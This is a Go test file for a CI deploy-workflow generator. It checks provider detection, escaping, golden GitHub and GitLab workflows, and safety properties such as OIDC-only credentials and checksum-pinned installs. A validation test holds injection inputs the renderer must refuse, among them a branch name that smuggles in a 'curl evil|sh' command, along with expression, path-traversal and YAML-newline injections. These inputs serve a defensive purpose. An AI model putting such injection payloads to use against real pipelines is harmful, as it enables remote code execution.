package ci

import (
	"context"
	"flag"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"go.yaml.in/yaml/v3"
)

var update = flag.Bool("update", false, "rewrite the golden workflows in testdata")

func TestDetect(t *testing.T) {
	for env, want := range map[string]string{
		"GITHUB_ACTIONS=true": "GitHub Actions", "GITLAB_CI=true": "GitLab CI", "CI=true": "CI", "CI=1": "CI",
		"CI=false": "", "": "", "GITHUB_ACTIONS=": "",
	} {
		k, v, _ := strings.Cut(env, "=")
		got := Detect(func(key string) string {
			if key == k {
				return v
			}
			return ""
		})
		if got != want {
			t.Errorf("%s: %q, want %q", env, got, want)
		}
	}
}

// The message and the file are escaped as the actions toolkit escapes them: a line
// break or a comma in either must not end the command or start a property.
func TestAnnotation(t *testing.T) {
	got := Annotation("deploy/berth,prod.yml", 3, "capacity.instance_type: \"large\" is 100% wrong\nhint: x")
	want := `::error file=deploy/berth%2Cprod.yml,line=3::capacity.instance_type: "large" is 100%25 wrong%0Ahint: x`
	if got != want {
		t.Errorf("%s\nwant %s", got, want)
	}
}

func TestTheSummaryIsAppended(t *testing.T) {
	file := filepath.Join(t.TempDir(), "summary.md")
	os.WriteFile(file, []byte("# before\n"), 0o644)
	t.Setenv(SummaryEnv, file)
	for _, s := range []string{"one\n", "two\n"} {
		if err := AppendSummary(func(w io.Writer) { io.WriteString(w, s) }); err != nil {
			t.Fatal(err)
		}
	}
	if b, _ := os.ReadFile(file); string(b) != "# before\none\ntwo\n" {
		t.Errorf("%q", b)
	}
	t.Setenv(SummaryEnv, "")
	if err := AppendSummary(func(w io.Writer) { t.Error("rendered without a summary file") }); err != nil {
		t.Error(err)
	}
}

var workflows = map[string]Workflow{
	"github": {Provider: "github", Env: "production", Region: "eu-west-1", Manifest: "berth.yml", Branch: "main",
		DeployRole:   "arn:aws:iam::123456789012:role/berth-ci/berth-production-ci-github-1a2b3c4d-DeployRole-AAAAAAAAAAAA",
		PlanRole:     "arn:aws:iam::123456789012:role/berth-ci/berth-production-ci-github-1a2b3c4d-PlanRole-BBBBBBBBBBBB",
		BerthVersion: "v1.2.3", BerthSHA256: strings.Repeat("ab", 32), CheckIgnore: []string{"BERTH009"}, Generator: "berth v1.2.3"},
	"github-environment": {Provider: "github", Env: "prod", Region: "us-east-1", Manifest: "services/orders/berth.yml", Branch: "release",
		CIEnvironment: "production", BerthVersion: "v1.2.3", BerthSHA256: strings.Repeat("cd", 32), Generator: "berth v1.2.3"},
	"gitlab": {Provider: "gitlab", Env: "production", Region: "eu-west-1", Manifest: "berth.yml", Branch: "main",
		DeployRole:   "arn:aws:iam::123456789012:role/berth-ci/berth-production-ci-gitlab-5e6f7a8b-DeployRole-AAAAAAAAAAAA",
		PlanRole:     "arn:aws:iam::123456789012:role/berth-ci/berth-production-ci-gitlab-5e6f7a8b-PlanRole-BBBBBBBBBBBB",
		BerthVersion: "v1.2.3", BerthSHA256: strings.Repeat("ef", 32), Generator: "berth v1.2.3"},
}

// Golden workflows; .ci/run runs actionlint on the GitHub ones.
func TestGoldenWorkflows(t *testing.T) {
	for name, w := range workflows {
		got, err := w.Render()
		if err != nil {
			t.Fatal(err)
		}
		golden := filepath.Join("testdata", name+".yml")
		if *update {
			os.MkdirAll("testdata", 0o755)
			if err := os.WriteFile(golden, got, 0o644); err != nil {
				t.Fatal(err)
			}
			continue
		}
		want, err := os.ReadFile(golden)
		if err != nil || string(got) != string(want) {
			t.Errorf("%s differs from %s (run go test ./internal/ci -update and review the diff)", name, golden)
		}
	}
}

// What the issue asks of every workflow, read back from the YAML: credentials only
// through OpenID Connect, every action pinned by a full commit SHA, one deploy of an
// environment at a time, berth at a pinned version with its checksum checked, and no
// access key.
func TestWorkflowsAreSafe(t *testing.T) {
	for name, w := range workflows {
		body, err := w.Render()
		if err != nil {
			t.Fatal(err)
		}
		text := strings.ToLower(string(body))
		for _, bad := range []string{"access key", "access_key", "aws_secret", "secrets.", "pull_request_target"} {
			if strings.Contains(text, bad) {
				t.Errorf("%s mentions %q", name, bad)
			}
		}
		if !strings.Contains(string(body), "sha256sum -c -") || !strings.Contains(string(body), w.BerthSHA256) || !strings.Contains(string(body), w.BerthVersion) {
			t.Errorf("%s: berth is not installed at a pinned version with its checksum checked", name)
		}
		var doc map[string]any
		if err := yaml.Unmarshal(body, &doc); err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		if w.Provider == "github" {
			checkGitHub(t, name, doc, w)
		} else {
			checkGitLab(t, name, doc, w)
		}
	}
}

func checkGitHub(t *testing.T, name string, doc map[string]any, w Workflow) {
	jobs := doc["jobs"].(map[string]any)
	if p := doc["permissions"].(map[string]any); len(p) != 1 || p["contents"] != "read" {
		t.Errorf("%s: workflow permissions %v", name, p)
	}
	for _, j := range []string{"plan", "deploy"} {
		job := jobs[j].(map[string]any)
		if p := job["permissions"].(map[string]any); p["id-token"] != "write" || p["contents"] != "read" || len(p) != 2 {
			t.Errorf("%s/%s: permissions %v", name, j, p)
		}
		for _, s := range job["steps"].([]any) {
			uses, _ := s.(map[string]any)["uses"].(string)
			if uses == "" {
				continue
			}
			if _, sha, _ := strings.Cut(uses, "@"); len(sha) != 40 || strings.Trim(sha, "0123456789abcdef") != "" {
				t.Errorf("%s/%s: %s is not pinned by a full commit SHA", name, j, uses)
			}
		}
	}
	c := jobs["deploy"].(map[string]any)["concurrency"].(map[string]any)
	if c["group"] != "berth-"+w.Env || c["cancel-in-progress"] != false {
		t.Errorf("%s: deploy concurrency %v", name, c)
	}
	if env := jobs["deploy"].(map[string]any)["environment"]; (env != nil) != (w.CIEnvironment != "") || (env != nil && env != w.CIEnvironment) {
		t.Errorf("%s: deploy environment %v", name, env)
	}
}

// GitLab's required keys: every job has a stage among stages and a script (through
// extends), rules; the hidden job holds the image and the ID token.
func checkGitLab(t *testing.T, name string, doc map[string]any, w Workflow) {
	stages := doc["stages"].([]any)
	base := doc[".berth"].(map[string]any)
	if base["image"] == nil || base["id_tokens"].(map[string]any)["BERTH_ID_TOKEN"].(map[string]any)["aud"] != "https://gitlab.com" {
		t.Errorf("%s: .berth %v", name, base)
	}
	for _, j := range []string{"berth-plan", "berth-deploy"} {
		job := doc[j].(map[string]any)
		if job["extends"] != ".berth" || job["script"] == nil || job["rules"] == nil || !contains(stages, job["stage"]) {
			t.Errorf("%s/%s: %v", name, j, job)
		}
		if arn := job["variables"].(map[string]any)["AWS_ROLE_ARN"]; arn == "" || arn == nil {
			t.Errorf("%s/%s: no role", name, j)
		}
	}
	if doc["berth-deploy"].(map[string]any)["resource_group"] != "berth-"+w.Env {
		t.Errorf("%s: deploys of %s may overlap", name, w.Env)
	}
}

func contains(list []any, v any) bool {
	for _, x := range list {
		if x == v {
			return true
		}
	}
	return false
}

// Values that a workflow, a shell or an expression would read as something else never
// reach the file.
func TestStrangeValuesAreRefused(t *testing.T) {
	for _, edit := range []func(*Workflow){
		func(w *Workflow) { w.Branch = "main'; curl evil|sh; '" },
		func(w *Workflow) { w.Branch = "${{ github.head_ref }}" },
		func(w *Workflow) { w.Manifest = "../berth.yml" },
		func(w *Workflow) { w.Manifest = "berth.yml --yes" },
		func(w *Workflow) { w.DeployRole = "arn:aws:iam::123456789012:user/admin" },
		func(w *Workflow) { w.BerthVersion = "latest" },
		func(w *Workflow) { w.BerthSHA256 = "" },
		func(w *Workflow) { w.Region = "eu-west-1\nfoo: bar" },
		func(w *Workflow) { w.Provider = "gitlab"; w.CIEnvironment = "production" },
	} {
		w := workflows["github"]
		edit(&w)
		if _, err := w.Render(); err == nil {
			t.Errorf("%+v rendered", w)
		}
	}
}

// The checksum comes from the release's SHA256SUMS, text or binary mode.
func TestReleaseSHA256(t *testing.T) {
	sum := strings.Repeat("0f", 32)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/v1.2.3/SHA256SUMS":
			io.WriteString(w, strings.Repeat("1", 64)+"  berth_v1.2.3_darwin_arm64.tar.gz\n"+sum+" *berth_v1.2.3_linux_amd64.tar.gz\n")
		case "/v1.2.4/SHA256SUMS":
			io.WriteString(w, strings.Repeat("1", 64)+"  berth_v1.2.4_darwin_arm64.tar.gz\n")
		default:
			http.NotFound(w, r)
		}
	}))
	defer srv.Close()
	if got, err := ReleaseSHA256(context.Background(), srv.Client(), srv.URL, "v1.2.3"); err != nil || got != sum {
		t.Errorf("%s %v", got, err)
	}
	if _, err := ReleaseSHA256(context.Background(), srv.Client(), srv.URL, "v1.2.4"); err == nil || !strings.Contains(err.Error(), "lists no berth_v1.2.4_linux_amd64.tar.gz") {
		t.Errorf("%v", err)
	}
	if _, err := ReleaseSHA256(context.Background(), srv.Client(), srv.URL, "v9.9.9"); err == nil || !strings.Contains(err.Error(), "404") {
		t.Errorf("%v", err)
	}
}
